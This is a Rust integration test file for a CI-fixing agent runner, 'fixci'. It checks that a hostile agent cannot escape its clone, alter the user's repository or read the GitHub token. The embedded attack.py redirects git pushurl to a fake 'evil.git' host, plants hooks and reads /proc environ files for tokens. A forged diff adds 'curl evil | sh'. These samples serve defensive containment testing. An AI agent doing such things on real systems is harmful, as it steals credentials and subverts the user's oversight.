//! The private clone, the user-repository fingerprint, the token kept out of every process
//! environment, and `fixci apply` / `fixci status` trusting nothing on disk alone (issue 13,
//! items 3 to 6). Hostile agents are small Python scripts that attack, record what they could
//! do in their stage directory, then hand over to the ordinary scripted agent.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::common::{AGENT_PY, fixci, git, result, run_dir, scripted_job, test_env};

/// A hostile agent: `attack.py MODE AGENT_PY_PATH GOOD_MODE [ARGS...]`. In the fix stage (of
/// attempt 1) it performs MODE, writes what happened to `attack.json` in its stage directory,
/// then runs the scripted agent with GOOD_MODE; in other stages it only runs the scripted agent.
/// Modes: `own-git` writes its clone's `.git/config` and hooks (an `info/exclude` edit is a refused test-infrastructure change, see rules.rs); `user-abs` writes
/// the user's checkout by absolute path (ARGS[0] = the user's repository); `environ` reads
/// `/proc/$PPID/environ` and the fixci process's (from `fixci.pid`); `pushurl` (ARGS[0] = the
/// other host's URL, ARGS[1] = a global git config file) points `remote.origin.pushurl` at the
/// other host in its clone and in the global config.
pub const ATTACK_PY: &str = r##"
import json, os, pathlib, subprocess, sys
mode, agent_py, good = sys.argv[1], sys.argv[2], sys.argv[3]
args = sys.argv[4:]
stage_dir = pathlib.Path(os.environ["FIXCI_STAGE_DIR"])
record = {}
def attempt(name, fn):
    try:
        fn()
        record[name] = "done"
    except Exception as e:
        record[name] = f"refused: {e}"
def write(p, text):
    pathlib.Path(p).parent.mkdir(parents=True, exist_ok=True)
    with open(p, "a") as f:
        f.write(text)
if os.environ["FIXCI_STAGE"] == "fix" and os.environ.get("FIXCI_ATTEMPT", "1") == "1":
    if mode == "own-git":
        attempt("config", lambda: subprocess.run(["git", "config", "remote.origin.pushurl", "http://127.0.0.1:9/evil.git"], check=True))
        attempt("hook", lambda: write(".git/hooks/post-checkout", "#!/bin/sh\necho pwned\n"))
        attempt("readme", lambda: write("README-agent.md", "agent notes\n"))
    elif mode == "user-abs":
        user = pathlib.Path(args[0])
        attempt("README.md", lambda: write(user / "README.md", "owned\n"))
        attempt(".git/config", lambda: write(user / ".git/config", "[remote \"origin\"]\n\tpushurl = http://127.0.0.1:9/evil.git\n"))
        attempt(".git/hooks/post-checkout", lambda: write(user / ".git/hooks/post-checkout", "#!/bin/sh\necho pwned\n"))
        attempt(".git/info/exclude", lambda: write(user / ".git/info/exclude", "*.secret\n"))
    elif mode == "environ":
        fixci_pid = pathlib.Path(os.environ["FIXCI_RUN_DIR"], "fixci.pid").read_text().strip()
        for name, pid in [("parent", str(os.getppid())), ("fixci", fixci_pid), ("self", "self")]:
            try:
                record[name] = pathlib.Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace")
            except Exception as e:
                record[name] = f"unreadable: {type(e).__name__}"
        record["fixci_pid"] = fixci_pid
        record["uid"] = os.getuid()
    elif mode == "pushurl":
        other, global_config = args[0], args[1]
        attempt("clone-config", lambda: subprocess.run(["git", "config", "remote.origin.pushurl", other], check=True))
        attempt("global-config", lambda: write(global_config, f"[remote \"origin\"]\n\tpushurl = {other}\n"))
    (stage_dir / "attack.json").write_text(json.dumps(record))
os.execvp("python3", ["python3", agent_py, good])
"##;

/// Writes `attack.py` beside the scripted agent and points the spec at it.
pub fn hostile_job(root: &Path, repo: &Path, mode: &str, args: &[&str], extra: Value) -> PathBuf {
    let spec = scripted_job(root, repo, "good", extra);
    std::fs::write(root.join("attack.py"), ATTACK_PY).unwrap();
    point_at_attack(&spec, root, mode, args);
    spec
}

/// Rewrites the spec's agent command to run `attack.py MODE`.
pub fn point_at_attack(spec: &Path, root: &Path, mode: &str, args: &[&str]) {
    std::fs::write(root.join("attack.py"), ATTACK_PY).unwrap();
    std::fs::write(root.join("agent.py"), AGENT_PY).unwrap();
    let mut v: Value = serde_json::from_str(&std::fs::read_to_string(spec).unwrap()).unwrap();
    let mut cmd = vec![
        json!("python3"),
        json!(root.join("attack.py").display().to_string()),
        json!(mode),
        json!(root.join("agent.py").display().to_string()),
        json!("good"),
    ];
    cmd.extend(args.iter().map(|a| json!(a)));
    v["agent"] = json!({ "command": cmd });
    std::fs::write(spec, v.to_string()).unwrap();
}

/// What the hostile agent recorded in the fix stage of attempt 1.
pub fn attack_record(run: &Path) -> Value {
    let p = run.join("stages/attempts/fix/attempt-1/attack.json");
    let p = if p.exists() {
        p
    } else {
        walk_find(run, "attack.json").expect("the hostile agent recorded its attack")
    };
    serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap()
}

fn walk_find(dir: &Path, name: &str) -> Option<PathBuf> {
    for e in std::fs::read_dir(dir).ok()?.flatten() {
        let p = e.path();
        if p.is_dir() {
            if let Some(f) = walk_find(&p, name) {
                return Some(f);
            }
        } else if p.file_name().is_some_and(|n| n == name) {
            return Some(p);
        }
    }
    None
}

/// Refs, registered worktrees, config, hooks, exclude, README and status of the user's repository.
fn snapshot(repo: &Path) -> Vec<(String, String)> {
    let read = |p: &str| std::fs::read_to_string(repo.join(p)).unwrap_or_else(|_| "-".into());
    let hooks: Vec<String> = std::fs::read_dir(repo.join(".git/hooks"))
        .map(|rd| {
            rd.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    let mut hooks = hooks;
    hooks.sort();
    vec![
        ("refs".into(), git(repo, &["for-each-ref"])),
        (
            "worktrees".into(),
            git(repo, &["worktree", "list", "--porcelain"]),
        ),
        ("config".into(), read(".git/config")),
        ("hooks".into(), hooks.join(",")),
        ("exclude".into(), read(".git/info/exclude")),
        ("README.md".into(), read("README.md")),
        (
            "status".into(),
            git(repo, &["status", "--porcelain=v2", "--branch"]),
        ),
    ]
}

/// `fixci apply last --repo REPO` on the runs of `e`.
fn apply(e: &crate::common::TestEnv, repo: &Path) -> assert_cmd::assert::Assert {
    fixci()
        .current_dir(&e.root)
        .args(["apply", "last", "--out", e.out.to_str().unwrap(), "--repo"])
        .arg(repo)
        .assert()
}

fn run(e: &crate::common::TestEnv, spec: &Path) -> assert_cmd::assert::Assert {
    fixci()
        .current_dir(&e.root)
        .env_remove("GITHUB_TOKEN")
        .env_remove("GH_TOKEN")
        .args([
            "run",
            spec.to_str().unwrap(),
            "--out",
            e.out.to_str().unwrap(),
        ])
        .assert()
}

#[test]
fn the_agent_writes_its_own_git_not_the_users_and_the_fix_comes_back_as_one_branch() {
    let e = test_env();
    std::fs::write(e.repo.join("README.md"), "the user's readme\n").unwrap();
    git(&e.repo, &["add", "README.md"]);
    git(&e.repo, &["commit", "-qm", "readme"]);
    let before = snapshot(&e.repo);
    // The clone is kept to be looked at (by default a run removes it when it ends).
    let spec = hostile_job(&e.root, &e.repo, "own-git", &[], json!({"keep-worktree": true}));
    run(&e, &spec).code(0);
    let run_path = run_dir(&e.out);
    let rec = attack_record(&run_path);
    // Everything the agent did happened in its own clone: the clone has its own `.git`.
    assert!(run_path.join("worktree/.git").is_dir());
    assert_eq!(rec["config"], "done", "{rec}");
    let r = result(&run_path);
    assert_eq!(r["status"], "success", "{r}");
    let branch = r["branch"].as_str().unwrap();
    let after = snapshot(&e.repo);
    for ((k, b), (_, a)) in before.iter().zip(&after) {
        if k == "refs" {
            // One new ref: the fix branch, at the fix commit.
            let added: Vec<&str> = a.lines().filter(|l| !b.contains(*l)).collect();
            assert_eq!(added.len(), 1, "{added:?}");
            assert!(
                added[0].starts_with(r["commit"].as_str().unwrap())
                    && added[0].ends_with(&format!("refs/heads/{branch}")),
                "{added:?}"
            );
        } else {
            assert_eq!(b, a, "{k} of the user's repository changed");
        }
    }
    assert_eq!(
        git(&e.repo, &["worktree", "list"]).lines().count(),
        1,
        "no worktree is registered in the user's repository"
    );
    let shown = git(&e.repo, &["show", &format!("{branch}:mathlib/stats.py")]);
    assert!(shown.contains("sum(xs) / len(xs)"), "{shown}");
}

#[test]
fn writes_to_the_users_checkout_by_absolute_path_end_the_run_failed_naming_the_paths() {
    let e = test_env();
    let user = e.repo.display().to_string();
    // Without a sandbox: under bubblewrap these writes are discarded and named (tests/integration/contain.rs).
    let spec = hostile_job(&e.root, &e.repo, "user-abs", &[&user], json!({"sandbox": "none"}));
    let refs_before = git(&e.repo, &["for-each-ref"]);
    let out = run(&e, &spec).get_output().clone();
    let run_path = run_dir(&e.out);
    let rec = attack_record(&run_path);
    let r = result(&run_path);
    let written: Vec<&str> = [
        "README.md",
        ".git/config",
        ".git/hooks/post-checkout",
        ".git/info/exclude",
    ]
    .into_iter()
    .filter(|k| rec[*k] == "done")
    .collect();
    if written.is_empty() {
        // A sandbox stopped every write: nothing of the user's changed.
        assert!(!e.repo.join("README.md").exists());
        return;
    }
    assert_ne!(r["status"], "success", "{r}");
    assert_eq!(r["status"], "failed", "{r}");
    assert_eq!(out.status.code(), Some(1));
    let reason = r["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("the agent changed your repository: "),
        "{reason}"
    );
    for p in &written {
        assert!(reason.contains(p), "`{p}` missing from: {reason}");
    }
    // No fix branch reached the user's repository.
    assert_eq!(refs_before, git(&e.repo, &["for-each-ref"]));
    let report = std::fs::read_to_string(run_path.join("report.md")).unwrap();
    assert!(
        report.contains("the agent changed your repository"),
        "{report}"
    );
}

#[test]
fn a_run_that_cannot_reproduce_leaves_no_branch_and_no_worktree() {
    let e = test_env();
    let spec = scripted_job(&e.root, &e.repo, "no-repro", json!({}));
    let before = snapshot(&e.repo);
    run(&e, &spec).code(1);
    assert_eq!(before, snapshot(&e.repo));
    let r = result(&run_dir(&e.out));
    assert_ne!(r["status"], "success");
    // `fixci apply` refuses it.
    let out = apply(&e, &e.repo).code(2).get_output().stderr.clone();
    let err = String::from_utf8_lossy(&out);
    assert!(err.contains("has no verified fix to apply"), "{err}");
    assert_eq!(before, snapshot(&e.repo));
}

#[test]
fn apply_and_status_refuse_a_forged_fix_diff() {
    let e = test_env();
    let spec = scripted_job(&e.root, &e.repo, "good", json!({}));
    run(&e, &spec).code(0);
    let run_path = run_dir(&e.out);
    let diff_path = run_path.join("fix.diff");
    let real = std::fs::read_to_string(&diff_path).unwrap();
    // A valid patch that also plants code: it applies cleanly, but it is not the fix commit.
    let forged = format!(
        "{real}diff --git a/evil.sh b/evil.sh\nnew file mode 100644\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n"
    );
    std::fs::write(&diff_path, forged).unwrap();
    let other = e.root.join("other");
    git(
        &e.root,
        &[
            "clone",
            "-q",
            e.repo.to_str().unwrap(),
            other.to_str().unwrap(),
        ],
    );
    let refs = git(&other, &["for-each-ref"]);
    let out = apply(&e, &other).code(2).get_output().stderr.clone();
    let err = String::from_utf8_lossy(&out);
    assert!(
        err.contains("fix.diff differs from the diff of its fix commit"),
        "{err}"
    );
    assert_eq!(
        refs,
        git(&other, &["for-each-ref"]),
        "apply created a branch"
    );
    let status = fixci()
        .current_dir(&e.root)
        .args(["status", "last", "--out", e.out.to_str().unwrap()])
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let status = String::from_utf8_lossy(&status);
    assert!(status.contains("this success is not trusted"), "{status}");
    // The real diff applies.
    std::fs::write(&diff_path, real).unwrap();
    apply(&e, &other).code(0);
}

#[test]
fn the_token_is_in_no_process_environment_fixci_included() {
    const SECRET: &str = "ghp_containment0123456789abcdefSECRET";
    let e = test_env();
    let spec = hostile_job(&e.root, &e.repo, "environ", &[], json!({}));
    fixci()
        .current_dir(&e.root)
        .env("GITHUB_TOKEN", SECRET)
        .env("GH_TOKEN", SECRET)
        .args([
            "run",
            spec.to_str().unwrap(),
            "--out",
            e.out.to_str().unwrap(),
            "--no-pr",
        ])
        .assert()
        .code(0);
    let run_path = run_dir(&e.out);
    let rec = attack_record(&run_path);
    for k in ["parent", "fixci", "self"] {
        let seen = rec[k].as_str().unwrap();
        assert!(!seen.contains(SECRET), "{k}: the token is in {seen}");
        assert!(!seen.contains("GITHUB_TOKEN="), "{k}: {seen}");
        // Either read (as root, or through a sandbox's own view) or refused because fixci is
        // not dumpable; both are real answers, not an empty stub.
        assert!(
            seen.contains("PATH=") || seen.starts_with("unreadable: "),
            "{k}: {seen}"
        );
    }
    if rec["uid"] != 0 {
        // Not dumpable: another process of the same user cannot read it.
        assert!(
            rec["fixci"].as_str().unwrap().starts_with("unreadable: "),
            "fixci is not dumpable: {rec}"
        );
    }
}

#[test]
fn the_token_still_reaches_fixci_after_it_left_the_environment() {
    // `fixci doctor` re-executes with the token moved to a pipe; it still sees one.
    let out = fixci()
        .env("GH_TOKEN", "ghp_handoff_check")
        .env_remove("GITHUB_TOKEN")
        .arg("doctor")
        .assert()
        .get_output()
        .stdout
        .clone();
    let out = String::from_utf8_lossy(&out);
    assert!(out.contains("`GH_TOKEN` is set (value not shown)"), "{out}");
    assert!(!out.contains("ghp_handoff_check"), "{out}");
}

#[test]
fn a_hook_planted_in_the_cache_clone_never_runs() {
    let e = test_env();
    let bundle = e.root.join("repo.bundle");
    git(
        &e.repo,
        &["bundle", "create", "-q", bundle.to_str().unwrap(), "--all"],
    );
    let spec = scripted_job(
        &e.root,
        &bundle,
        "no-repro",
        json!({"repo": bundle.display().to_string()}),
    );
    let cache = e.root.join("cache");
    let go = || {
        fixci()
            .current_dir(&e.root)
            .env("FIXCI_CACHE_DIR", &cache)
            .args(["run", spec.to_str().unwrap(), "--out"])
            .arg(e.root.join("out"))
            .assert()
            .code(1)
    };
    go();
    let clones: Vec<PathBuf> = std::fs::read_dir(cache.join("repos"))
        .unwrap()
        .flatten()
        .map(|d| d.path())
        .collect();
    assert_eq!(clones.len(), 1, "{clones:?}");
    let marker = e.root.join("hook-ran");
    let hooks = clones[0].join(".git/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    for h in [
        "reference-transaction",
        "post-checkout",
        "post-merge",
        "pre-auto-gc",
    ] {
        let p = hooks.join(h);
        std::fs::write(
            &p,
            format!("#!/bin/sh\necho {h} >> '{}'\n", marker.display()),
        )
        .unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    // The hook itself works when git is allowed to run it.
    git(&clones[0], &["update-ref", "refs/probe", "HEAD"]);
    assert!(marker.exists(), "the planted hook is runnable");
    std::fs::remove_file(&marker).unwrap();
    go();
    assert!(
        !marker.exists(),
        "a planted hook ran: {}",
        std::fs::read_to_string(&marker).unwrap_or_default()
    );
}
